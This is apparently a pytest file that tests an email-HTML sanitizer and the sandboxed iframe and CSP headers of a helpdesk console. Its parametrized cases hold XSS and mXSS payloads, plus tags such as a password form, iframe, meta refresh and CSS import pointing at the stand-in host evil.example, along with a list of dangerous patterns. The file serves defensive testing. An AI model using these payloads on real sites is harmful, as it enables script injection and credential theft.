"""A mail's own HTML is shown and can do nothing."""

import re

import pytest

from conversations.intake import InboundFile
from conversations.models import Attachment, Original
from omnidesk.console.originals import sanitize
from tests.omnidesk.console.conftest import Desk
from tests.omnidesk.console.test_attachments import PNG, SVG


def test_the_frame_is_locked_twice(desk: Desk) -> None:
    message = desk.mail_from_ana(html="<p>Hello</p>")
    url = f"/console/c/{message.conversation_id}/messages/{message.pk}/html/"

    page = desk.browser.get(f"/console/c/{message.conversation_id}/").content.decode()
    response = desk.browser.get(url)

    frame = re.search(r"<iframe[^>]*>", page)
    assert frame is not None
    sandbox = re.search(r'sandbox="([^"]*)"', frame.group())
    assert sandbox is not None
    assert "allow-scripts" not in sandbox.group(1)
    assert "allow-same-origin" not in sandbox.group(1)
    policy = response.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox ")
    assert "default-src 'none'" in policy
    assert "img-src data:;" in policy
    assert "script-src" not in policy
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"


def test_a_message_without_html_has_no_frame(desk: Desk) -> None:
    message = desk.mail_from_ana()
    url = f"/console/c/{message.conversation_id}/messages/{message.pk}/html/"

    assert desk.browser.get(url).status_code == 404
    assert not Original.objects.filter(message=message).exclude(html="").exists()


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java&#10;script:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<form action="https://evil.example"><input name="password"></form>',
        '<iframe src="https://evil.example"></iframe>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example">',
        "<style>@import url(https://evil.example)</style>",
        '<link rel="stylesheet" href="https://evil.example">',
        '<p style="background:url(https://evil.example)">x</p>',
        '<p style="position:fixed;inset:0">x</p>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        '<object data="https://evil.example"></object>',
        '<video src="https://evil.example" autoplay></video>',
        '<p class="toast" id="act">x</p>',
    ],
)
def test_nothing_runs_loads_or_poses(html: str) -> None:
    clean = sanitize(html).html.lower()

    for danger in (
        "<script",
        "onerror",
        "javascript:",
        "data:text",
        "<svg",
        "<form",
        "<input",
        "<iframe",
        "<meta",
        "<base",
        "<style",
        "<link",
        "<object",
        "<video",
        "url(",
        "position",
        "evil.example",
        "class=",
        "id=",
    ):
        assert danger not in clean


def test_remote_pictures_are_counted_and_not_loaded() -> None:
    sanitized = sanitize(
        '<img src="https://tracker.example/1.gif"><img src="//t.example/2.gif">'
    )

    assert sanitized.blocked_count == 2
    assert "tracker" not in sanitized.html
    assert "t.example" not in sanitized.html


def test_the_mails_own_picture_is_in_the_page(desk: Desk) -> None:
    logo = InboundFile("logo.png", "image/png", PNG, "logo@x", is_inline=True)
    evil = InboundFile("evil.png", "image/png", SVG, "evil@x", is_inline=True)
    message = desk.mail_from_ana(attachments=(logo, evil))
    html = '<img src="cid:logo@x"><img src="cid:evil@x"><img src="cid:none@x">'

    clean = sanitize(html, Attachment.objects.filter(message=message)).html

    assert clean.count("data:image/png;base64,") == 1
    assert clean.count("<img") == 3
    assert "cid:" not in clean


def test_looks_and_links_stay() -> None:
    clean = sanitize(
        '<p style="color:red;position:fixed">Hi '
        '<a href="https://acme.example/x">there</a></p>'
    ).html

    assert "color:red" in clean.replace(" ", "")
    assert 'href="https://acme.example/x"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert 'target="_blank"' in clean
